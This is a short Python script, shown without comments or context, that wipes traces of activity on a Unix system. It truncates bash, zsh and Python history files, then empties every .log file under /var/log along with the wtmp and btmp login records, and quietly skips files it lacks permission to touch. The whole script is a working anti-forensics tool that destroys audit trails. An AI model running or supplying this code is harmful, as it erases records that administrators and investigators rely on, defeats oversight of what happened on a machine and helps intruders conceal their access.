import os
import glob

for hist in ("~/.bash_history", "~/.zsh_history", "~/.python_history"):
    p = os.path.expanduser(hist)
    if os.path.exists(p):
        open(p, "w").close()

for log in glob.glob("/var/log/*.log") + ["/var/log/wtmp", "/var/log/btmp"]:
    try:
        with open(log, "w"):
            pass
    except PermissionError:
        pass
